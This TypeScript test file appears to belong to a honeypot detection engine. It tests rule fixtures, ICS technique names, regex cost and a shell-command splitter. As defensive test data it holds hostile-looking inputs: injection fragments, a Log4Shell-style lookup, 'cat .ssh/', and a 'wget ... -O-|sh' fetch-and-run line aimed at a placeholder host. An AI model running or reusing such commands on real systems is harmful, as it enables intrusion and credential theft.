import assert from 'node:assert/strict'
import { readFileSync } from 'node:fs'
import path from 'node:path'
import { test } from 'node:test'
import { escapeBytes } from '@shenlou/contract/bytes'
import type { StoredEvent } from '@shenlou/contract/event'
import { eventKindNames } from '@shenlou/contract/event-kinds'
import { findingSummary } from '@shenlou/contract/records'
import { type Condition, matchRule, type Rule } from './rule.ts'
import { allRules, rulesFor } from './rules/all.ts'
import { simpleCommands } from './shell-line.ts'
import { isKnownTechnique, techniqueNamed } from './techniques.ts'
import { icsTechniques } from './techniques-ics.ts'
import { fieldLimit, viewOf } from './view.ts'
import { addToWindow, type Entry } from './window.ts'

interface Fixture {
  line: number
  positive: boolean
  rule: string
  events: StoredEvent[]
}

const bytes = (text: string): string =>
  escapeBytes(
    Buffer.concat(
      text
        .split(/(\\x[0-9a-f]{2}|\\n|\\\\)/)
        .map((part) =>
          part === '\\n' ? Buffer.from('\n') : part === '\\\\' ? Buffer.from('\\') : /^\\x/.test(part) ? Buffer.from(part.slice(2), 'hex') : Buffer.from(part),
        ),
    ),
  )

function bodyOf(kind: string, payload: string, rest: string[]): { kind: string; body: Record<string, unknown> } {
  if (kind === 'command') return { kind: 'command.executed', body: { mode: 'shell', input: bytes(payload), user: 'root', directory: '/root' } }
  if (kind === 'login') {
    const [, user, password, outcome = 'refused', by] = /^(.*?)\/(.*?)(?: => (\w+) ?(\w+)?)?$/.exec(payload) as unknown as string[]
    return { kind: 'login.attempted', body: { method: 'password', user, password, outcome, ...(by && { by }) } }
  }
  if (kind === 'http') {
    const [, method, target, status = '200'] = /^(\S+) (.*?)(?: => (\d+))?$/.exec(payload) as unknown as string[]
    const text = rest.find((part) => part.startsWith('> '))?.slice(2) ?? ''
    const headers = rest
      .filter((part) => !part.startsWith('> '))
      .map((part) => [part.slice(0, part.indexOf(':')), bytes(part.slice(part.indexOf(':') + 1).trim())])
    return { kind: 'http.exchanged', body: { method, target: bytes(target as string), status: Number(status), headers, body: bytes(text) } }
  }
  const { '@decoy': decoy, '@service': service, ...body } = JSON.parse(payload) as Record<string, unknown>
  if (kind !== 'industrial.requested') return { kind, body, ...(decoy ? { decoy } : {}), ...(service ? { service } : {}) } as never
  const request = { protocol: 'modbus', operation: 'read', function: 'x', points: [], count: 1, outcome: 'done', changed: false, request: '', response: '' }
  return { kind, body: { ...request, ...body }, decoy: decoy ?? 'plc', service: service ?? body.protocol ?? 'modbus' } as never
}

let made = 0
function eventsOf(kind: string, payload: string, rest: string[]): StoredEvent[] {
  const count = Number(/\{1\.\.(\d+)\}/.exec(payload)?.[1] ?? 1)
  return Array.from({ length: count }, (_, at) => ({
    id: `01990000-0000-7000-8000-${String(++made).padStart(12, '0')}`,
    position: made,
    time: 1_800_000_000_000 + at * 1000,
    received: 1,
    sensor: '01990000-0000-7000-8000-000000000001',
    epoch: '01990000-0000-7000-8000-000000000002',
    seq: made,
    scope: 'group',
    session: '01990000-0000-7000-8000-000000000003',
    decoy: 'web',
    service: 'x',
    source: { ip: '203.0.113.7', port: 4000 },
    ...bodyOf(kind, payload.replaceAll(/\{1\.\.\d+\}/g, String(at + 1)), rest),
  }))
}

const fixtures: Fixture[] = readFileSync(path.join(import.meta.dirname, 'rules.fixtures.txt'), 'utf8')
  .split('\n')
  .flatMap((text, at) => {
    if (!/^[+-] /.test(text)) return []
    const [head = '', kind = '', payload = '', ...rest] = text.split(' :: ')
    return [{ line: at + 1, positive: head.startsWith('+'), rule: head.slice(2), events: eventsOf(kind, payload, rest) }]
  })

/** Whether the events meet the rule, thresholds included. */
function fires(rule: Rule, events: StoredEvent[]): boolean {
  const rings = new Map<string, Entry[]>()
  return events.some((event) => {
    const view = viewOf(event)
    if (!rule.kinds.includes(event.kind as never) || !matchRule(rule, view)) return false
    if (!rule.threshold) return true
    const key = rule.threshold.by.map((field) => String(view(field))).join('\n')
    const ring = rings.get(key) ?? []
    rings.set(key, ring)
    const values = (rule.threshold.distinct ?? []).map((field) => String(view(field)))
    return addToWindow(ring, { time: event.time, event: event.id, session: null, values, field: 'x', value: '', counted: false }, rule.threshold).length > 0
  })
}

const named = (id: string): Rule => {
  const rule = allRules.find((each) => each.id === id)
  assert.ok(rule, `there is no rule ${id}`)
  return rule
}

for (const rule of allRules)
  test(`rule ${rule.id} matches its positive fixtures and none of its negative ones`, () => {
    const own = fixtures.filter((fixture) => fixture.rule === rule.id)
    assert.ok(own.some((fixture) => fixture.positive) && own.some((fixture) => !fixture.positive), 'needs a positive and a negative fixture')
    for (const { line, positive, events } of own) assert.equal(fires(rule, events), positive, `rules.fixtures.txt:${line}`)
  })

test('every fixture names a rule that exists', () => {
  for (const fixture of fixtures) named(fixture.rule)
})

test('techniques of impact come from what the plant did, never from a packet alone', () => {
  const impact = ['T0813', 'T0815', 'T0826', 'T0827', 'T0828', 'T0829', 'T0831', 'T0832', 'T0837', 'T0879', 'T0880', 'T0882']
  const found = allRules.filter((rule) => rule.techniques.some((id) => impact.includes(id)))
  assert.ok(found.length > 5)
  for (const { id, kinds, when } of found) assert.ok(kinds.join() === 'plant.affected' || JSON.stringify(when) === '{"field":"body.changed","is":true}', id)
})

test('the whole ICS matrix is known by name in both languages', () => {
  const named = icsTechniques.map(([id]) => techniqueNamed(id))
  assert.equal(new Set(named.map(({ id }) => id)).size, 83)
  for (const { id, name, zh, matrix } of named) assert.ok(matrix === 'ics' && name !== id && /\p{Script=Han}/u.test(zh ?? ''), id)
})

const patterns = (condition: Condition | undefined): string[] => {
  if (!condition) return []
  if ('all' in condition) return condition.all.flatMap(patterns)
  if ('any' in condition) return condition.any.flatMap(patterns)
  if ('not' in condition) return patterns(condition.not)
  return 'matches' in condition ? [condition.matches] : []
}

test('rules are whole: known kinds and techniques, both languages, ids that are theirs alone', () => {
  assert.equal(new Set(allRules.map((rule) => rule.id)).size, allRules.length)
  for (const rule of allRules) {
    assert.ok(rule.version >= 1 && rule.kinds.every((kind) => eventKindNames.includes(kind)), rule.id)
    assert.ok(rule.from === 'alert' || rule.about === 'sensor' || rule.techniques.length > 0, rule.id)
    for (const technique of rule.techniques) {
      assert.ok(isKnownTechnique(technique), `${rule.id}: ${technique}`)
      assert.ok(findingSummary.shape.techniques.element.safeParse(techniqueNamed(technique)).success)
    }
    for (const text of [rule.title, rule.reason]) assert.ok(/\p{Script=Han}/u.test(text.zh) && /^[A-Z][\x20-\x7e]+$/.test(text.en), rule.id)
    assert.ok(rulesFor(rule.kinds[0] as string).includes(rule))
  }
})

test('no pattern repeats without bound or inside a repeated group', () => {
  for (const rule of allRules)
    for (const source of patterns(rule.when)) {
      // Escapes and character classes repeat nothing.
      const bare = source.replaceAll(/\\./g, 'x').replaceAll(/\[(?:[^\]])*\]/g, 'c')
      assert.doesNotMatch(bare, /[*+]|\{\d+,\}/, `${rule.id}: ${source}`)
      const open: number[] = []
      for (let at = 0; at < bare.length; at++) {
        if (bare[at] === '(') open.push(at)
        else if (bare[at] === ')') {
          const inner = bare.slice((open.pop() as number) + 1, at)
          const repeat = /^\{(\d+)(?:,(\d+))?\}/.exec(bare.slice(at + 1))
          const most = Number(repeat?.[2] ?? repeat?.[1] ?? 1)
          if (most > 1) assert.ok(!/\{\d+,[2-9]\d*\}|\{\d+,1\d+\}/.test(inner) || /union/.test(bare), `${rule.id}: ${source}`)
        }
      }
    }
})

test('hostile text costs every rule little', () => {
  const seeds = [
    '\'" or a',
    '../',
    '$' + '{${lower:',
    'union/*',
    'wget |',
    '(((((',
    'base64 -d',
    '<?php ',
    ';;;;;;;;',
    '>>>> ',
    'cat .ssh/',
    "'='",
    '%25',
    'a '.repeat(20),
    '{{'.repeat(9),
  ]
  let worst = 0
  let worstRule = ''
  for (const seed of seeds) {
    const text = seed.repeat(Math.ceil(fieldLimit / seed.length)).slice(0, fieldLimit)
    for (const kind of ['command', 'http'])
      for (const [event] of [eventsOf(kind, kind === 'http' ? `GET /${text}` : text, [`X: ${text}`, `> ${text}`])]) {
        const view = viewOf(event as StoredEvent)
        for (const rule of rulesFor((event as StoredEvent).kind)) {
          const start = performance.now()
          matchRule(rule, view)
          const took = performance.now() - start
          if (took > worst) {
            worst = took
            worstRule = `${rule.id} on ${JSON.stringify(seed.slice(0, 12))}`
          }
        }
      }
  }
  assert.ok(worst < 400, `${worstRule} took ${worst.toFixed(0)} ms`)
})

test('a line is taken apart into programs, past quotes, assignments, carriers and substitutions', () => {
  const cases: [string, string[]][] = [
    ['A=1 sudo -E /usr/bin/wget "http://x/a b" -O-|sh', ['wget http://x/a b -O-', 'sh']],
    ["echo 'a; whoami' && id", ['echo a; whoami', 'id']],
    ['echo "a $(uname -a)"; id 2>&1', ['echo a ', 'uname -a', 'id 2>&1']],
    ['echo "`w`; no"; ./x & /tmp/y', ['echo ', 'w', './x', '/tmp/y']],
    ['w\\get x; c""url y', ['wget x', 'curl y']],
    ['', []],
    [' ; ; | & ', []],
  ]
  for (const [line, expected] of cases) assert.deepEqual(simpleCommands(line), expected, line)
  assert.equal(simpleCommands('a;'.repeat(5000)).length, 400)
})
